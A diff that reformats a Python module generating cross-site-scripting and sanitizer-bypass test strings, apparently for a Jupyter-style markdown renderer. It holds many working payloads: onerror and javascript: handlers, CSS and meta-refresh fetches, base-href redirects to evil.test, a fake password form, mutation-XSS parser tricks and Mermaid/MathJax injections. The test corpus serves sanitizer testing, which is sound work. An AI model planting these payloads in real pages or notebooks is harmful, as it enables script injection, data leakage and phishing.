@@ -161,7 +161,18 @@ def addresses() -> list[str]:
 
 # ------------------------------------------------------------------------ requests without a script
 
-_RELS = "stylesheet prefetch preload modulepreload preconnect dns-prefetch prerender icon manifest import".split()
+_RELS = [
+    "stylesheet",
+    "prefetch",
+    "preload",
+    "modulepreload",
+    "preconnect",
+    "dns-prefetch",
+    "prerender",
+    "icon",
+    "manifest",
+    "import",
+]
 _CSS = [
     f"background:url({FETCH}-bg)",
     f"background:u\\72l('{FETCH}-esc')",
@@ -172,7 +183,7 @@ _CSS = [
     f"mask-image:url({FETCH}-mask)",
     f"filter:url({FETCH}-f#f)",
     f"content:url({FETCH}-content)",
-    f"text-align:left;background:url(//evil.test/q-after)",
+    "text-align:left;background:url(//evil.test/q-after)",
     f"text-align:left/**/;/**/background:url({FETCH}-comment)",
     "position:fixed;inset:0;z-index:9999;text-align:center",
     f"--x:url({FETCH}-var);background:var(--x)",
@@ -185,7 +196,8 @@ def fetching() -> list[str]:
     made = [f"<link rel={rel} as=image href={FETCH}-{rel}>" for rel in _RELS]
     for place in ("<p style='{}'>p</p>", "<style>body,p{{{}}}</style>", "<td style='{}'>t</td>"):
         made += [place.format(rule) for rule in _CSS]
-    return made + [
+    return [
+        *made,
         f"<style>@import '{FETCH}-import';</style>",
         f"<style>@font-face{{font-family:f;src:url({FETCH}-font)}}p{{font-family:f}}</style><p>p</p>",
         f"<img src={FETCH}>",
@@ -224,9 +236,9 @@ def fetching() -> list[str]:
         f"<a href={FETCH}-attribution attributionsrc>a</a><img attributionsrc={FETCH}-as>",
         f"<meta http-equiv=refresh content='0;url={FETCH}-meta'>",
         f"<meta http-equiv=refresh content='0;javascript:{RUN}'>",
-        f"<meta http-equiv=Content-Security-Policy content=\"report-uri {FETCH}-csp\">",
+        f'<meta http-equiv=Content-Security-Policy content="report-uri {FETCH}-csp">',
         f"<meta name=referrer content=unsafe-url><img src={FETCH}-ref>",
-        f"<base href=https://evil.test/><img src=q-base><a href=x>a</a>",
+        "<base href=https://evil.test/><img src=q-base><a href=x>a</a>",
         f"<base target=_top><a href={FETCH}-top>a</a>",
         f"<form action={FETCH}-form><input name=password autofocus><button>Log in</button></form>",
         f"<form id=f></form><button form=f formaction=javascript:{RUN}>b</button>",
@@ -243,7 +255,7 @@ def fetching() -> list[str]:
         f"![x]({FETCH}-md)",
         f"![x][r]\n\n[r]: {FETCH}-ref",
         f"![r]\n\n[r]: <{FETCH}-ref> 'r'",
-        f"![](//evil.test/q-rel) ![](/logout) ![](http:/logout) ![](logout)",
+        "![](//evil.test/q-rel) ![](/logout) ![](http:/logout) ![](logout)",
         f"[![x]({FETCH}-in)](https://example.org)",
         f"![![x]({FETCH}-inner)]({FETCH}-outer)",
         f"![x\\]({FETCH}-esc)]({FETCH}-esc2)",
@@ -261,31 +273,34 @@ _COMMANDS = ["help:about", "terminal:create-new", "console:create", "notebook:ru
 
 def jupyter() -> list[str]:
     made = []
-    for i, (element, command) in enumerate(product(("button", "a", "div", "span", "code", "li", "p"), _COMMANDS)):
+    for i, (element, command) in enumerate(
+        product(("button", "a", "div", "span", "code", "li", "p"), _COMMANDS)
+    ):
         quote = ('"', "'", "")[i % 3]
         made.append(
             f"<{element} data-commandlinker-command={quote}{command}{quote} "
             f"data-commandlinker-args='{{\"n\":{i}}}'>click</{element}>"
         )
-    return made + [
+    return [
+        *made,
         "<a href='#' DATA-COMMANDLINKER-COMMAND=help:about>x</a>",
         "[x](command:help:about) [x](command-linker:help:about) [x](#data-commandlinker-command)",
-        f"<script type=application/vnd.jupyter.widget-view+json>{{}}</script>",
+        "<script type=application/vnd.jupyter.widget-view+json>{}</script>",
         "<div class='jp-OutputArea-output jp-mod-trusted' data-mime-type=application/javascript>x</div>",
         "<div class=lm-Widget id=jupyter-config-data name=jupyter-config-data>{}</div>",
         "<img name=cookie><img id=jupyterapp name=jupyterapp><form id=body name=body></form>",
         "<a id=x href=attachment:x.png>x</a> ![x](attachment:x.png) ![x](files/x) ![x](../api/contents?q)",
-        f"```mermaid\nflowchart LR\n  A[\"<img src={FETCH}-mer onerror={RUN}>\"] --> B\n```",
+        f'```mermaid\nflowchart LR\n  A["<img src={FETCH}-mer onerror={RUN}>"] --> B\n```',
         f"```mermaid\n%%{{init: {{'securityLevel':'loose','themeCSS':'@import url({FETCH}-mercss);'}}}}%%\nflowchart LR\n A-->B\n click A call {RUN}\n```",
-        f"```mermaid\nflowchart LR\n  A@{{ img: \"{FETCH}-merimg\", label: \"x\" }}\n```",
-        f"```mermaid\nflowchart LR\n  A --> B\n  click A href \"javascript:{RUN}\"\n  style A fill:url({FETCH}-merfill)\n```",
+        f'```mermaid\nflowchart LR\n  A@{{ img: "{FETCH}-merimg", label: "x" }}\n```',
+        f'```mermaid\nflowchart LR\n  A --> B\n  click A href "javascript:{RUN}"\n  style A fill:url({FETCH}-merfill)\n```',
         f"```mermaid\nsequenceDiagram\n  participant A\n  link A: x @ javascript:{RUN}\n  A->>B: {IMG}\n```",
         f"~~~~ mermaid\n---\nconfig:\n  securityLevel: loose\n  fontFamily: 'x;}}@import url({FETCH}-fm);'\n---\nflowchart LR\n A-->B\n~~~~",
         f"```{{mermaid}}\ngraph TD\nA[{IMG}]\n```",
         f"$\\href{{javascript:{RUN}}}{{x}}$ $$\\href{{javascript:{RUN}}}{{x}}$$",
         f"\\\\(\\style{{background:url({FETCH}-tex)}}{{x}}\\\\) $\\class{{jp-Cell}}{{x}}\\cssId{{main}}{{y}}$",
         f"$\\text{{{IMG}}}$ $$\\unicode{{x3c}}\\text{{{SCRIPT}}}$$ \\[\\mbox{{{IMG}}}\\]",
-        f"$\\require{{html}}\\data{{commandlinker-command=help:about}}{{x}}$",
+        "$\\require{html}\\data{commandlinker-command=help:about}{x}$",
         f"$\\require{{texhtml}}<tex-html>{IMG}</tex-html>$ $\\includegraphics{{{FETCH}-ig}}$",
         f"$\\def\\x{{\\x\\x}}\\x$ $$\\begin{{array}}{{c}}{IMG}\\end{{array}}$$",
         # MathJax's preprocessing takes formulas out of the source and puts them back into the HTML.
@@ -297,7 +312,7 @@ def jupyter() -> list[str]:
         f'https://example.org/`$"onclick={RUN}\nx="$`',
         f'https://example.org/\\\\("onclick={RUN} x="\\\\) https://example.org/\\begin{{a}}"onclick={RUN} x="\\end{{a}}',
         f'[x]: https://example.org/$ "onclick={RUN} x="$\n\n[x]',
-        f'[x]: https://example.org \'$"onclick={RUN} x="$\'\n\n[x] ![x]',
+        f"[x]: https://example.org '$\"onclick={RUN} x=\"$'\n\n[x] ![x]",
         f'a $\n  ```\n  $ https://example.org/$"onclick={RUN} x="$\n  ```',
         f'``` $"onclick={RUN} x="$\ncode\n```',
         f'<https://example.org/$"onclick={RUN}/x="$> <https://example.org/onclick={RUN}>',
@@ -307,10 +322,35 @@ def jupyter() -> list[str]:
 
 # ------------------------------------------------------- text that is not what it seems to a parser
 
-_SWALLOWING = (
-    "style title textarea xmp noscript noembed noframes iframe template plaintext script select option "
-    "table math svg desc foreignObject annotation-xml mtext mglyph button object listing p a form"
-).split()
+_SWALLOWING = [
+    "style",
+    "title",
+    "textarea",
+    "xmp",
+    "noscript",
+    "noembed",
+    "noframes",
+    "iframe",
+    "template",
+    "plaintext",
+    "script",
+    "select",
+    "option",
+    "table",
+    "math",
+    "svg",
+    "desc",
+    "foreignObject",
+    "annotation-xml",
+    "mtext",
+    "mglyph",
+    "button",
+    "object",
+    "listing",
+    "p",
+    "a",
+    "form",
+]
 
 
 def mutating() -> list[str]:
@@ -324,7 +364,8 @@ def mutating() -> list[str]:
             f"<math><{other}><{name}><!--</{name}>{IMG}-->",
             f"<{other}><{name}></{other}>{IMG}</{name}>",
         ]
-    return made + [
+    return [
+        *made,
         f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{IMG}'>",
         f"<form><math><mtext></form><form><mglyph><style></math>{IMG}",
         f"<math><annotation-xml encoding='text/html'><p>{IMG}</p></annotation-xml></math>",
@@ -337,13 +378,13 @@ def mutating() -> list[str]:
         f"<![CDATA[>{IMG}]]> <!DOCTYPE x [<!ENTITY y '{IMG}'>]>&y;",
         f"<?x {IMG} ?> <!x {IMG}> </ {IMG}> </x {IMG}>",
         f"<<img src=x onerror={RUN}>> <{IMG}> <\x00img src=x onerror={RUN}>",
-        f"<im\x00g src=x onerror={RUN}> <im\u200bg src=x onerror={RUN}> <\u00adimg src=x onerror={RUN}>",
-        f"\uff1cimg src=x onerror={RUN}\uff1e \u2039img src=x onerror={RUN}\u203a ‹script›{RUN}‹/script›",
+        f"<im\x00g src=x onerror={RUN}> <im\u200bg src=x onerror={RUN}> <\xadimg src=x onerror={RUN}>",
+        f"＜img src=x onerror={RUN}＞ ‹img src=x onerror={RUN}› ‹script›{RUN}‹/script›",
         f"&lt;img src=x onerror={RUN}&gt; &#60;img src=x onerror={RUN}&#62; &#x3c;script&#x3e;{RUN}&#x3c;/script&#x3e;",
         f"&amp;lt;img src=x onerror={RUN}&amp;gt; &ampamp;lt; &LT;img src=x onerror={RUN}&GT; &lt{IMG}",
         f"+ADw-script+AD4-{RUN}+ADw-/script+AD4- \x1b$B<img src=x onerror={RUN}>",
         f"\u2028{IMG}\u2029{SCRIPT} \ufeff{IMG} \x85{IMG} \x0c{IMG}",
-        f"\ud800{IMG}\udfff <a href=\"java\ud800script:{RUN}\">x</a>",
+        f'�{IMG}� <a href="java�script:{RUN}">x</a>',
         f"<scr<script>ipt>{RUN}</scr</script>ipt> <script\x0b>{RUN}</script\x0b>",
         f"\U000e003cimg src=x onerror={RUN}\U000e003e \u202e>{RUN}=rorreno x=crs gmi<\u202c",
     ]
@@ -414,12 +455,12 @@ _WRAPPING = [
     "[{}](https://example.org)",
     "![{}](https://example.org/i)",
     "[x](https://example.org '{}')",
-    "[x](https://example.org \"{}\")",
+    '[x](https://example.org "{}")',
     "[{0}]: https://example.org\n\n[{0}]",
     "<https://example.org/{}>",
     "https://example.org/{}",
     "[x](https://example.org/{})",
-    "[x](https://example.org/\"{}\")",
+    '[x](https://example.org/"{}")',
     "> - > 1. {}",
     "- [ ] {}",
     "# {} #",
@@ -427,7 +468,7 @@ _WRAPPING = [
     "| {} |\n|:-:|\n| {} |",
     "``` {}\nx\n```",
     "&quot;&gt;{}",
-    "\">{}",
+    '">{}',
     "'/>{}",
     "-->{}",
     "</code></pre>{}",
@@ -446,7 +487,9 @@ def misleading() -> list[str]:
     inner = [IMG, SCRIPT, f"![q]({FETCH})", f"[q](javascript:{RUN})"]
     made = [trick.format(*(what, what)) for trick in _CODE_TRICKS for what in (inner[0], inner[2])]
     made += [
-        wrap.format(*(what, what)) for i, wrap in enumerate(_WRAPPING) for what in (inner[i % 4], inner[(i + 1) % 4])
+        wrap.format(*(what, what))
+        for i, wrap in enumerate(_WRAPPING)
+        for what in (inner[i % 4], inner[(i + 1) % 4])
     ]
     return made
 
